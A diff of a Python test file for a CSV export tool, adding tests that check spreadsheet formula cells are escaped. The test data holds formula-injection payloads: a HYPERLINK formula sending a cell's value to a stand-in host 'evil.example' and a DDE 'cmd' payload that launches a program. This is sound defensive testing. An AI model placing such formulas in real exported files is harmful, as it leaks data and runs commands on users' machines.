@@ -3,6 +3,8 @@ tampered state files, a failed first request, an existing output."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import signal
@@ -230,7 +232,7 @@ def test_an_existing_output_is_never_overwritten_without_force(
 # --- CSV formula injection ------------------------------------------------------------------------
 
 _FORMULAS = {
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
     "-2+3": "'-2+3",
     "@SUM(A1:A9)": "'@SUM(A1:A9)",
@@ -258,10 +260,9 @@ def _formula_page(number: int, path: str, headers: dict[str, str]) -> Answer:
 
 
 @pytest.mark.parametrize("escape", [True, False])
-def test_csv_cells_a_spreadsheet_would_run_are_escaped_unless_asked_not_to(tmp_path: Path, escape: bool) -> None:
-    import csv
-    import io
-
+def test_csv_cells_a_spreadsheet_would_run_are_escaped_unless_asked_not_to(
+    tmp_path: Path, escape: bool
+) -> None:
     out = tmp_path / "events.csv"
     with hostile_server(_formula_page) as server:
         args = [sys.executable, "-m", "webex_events.cli", "export", "--base-url", server.base_url, *RANGE]
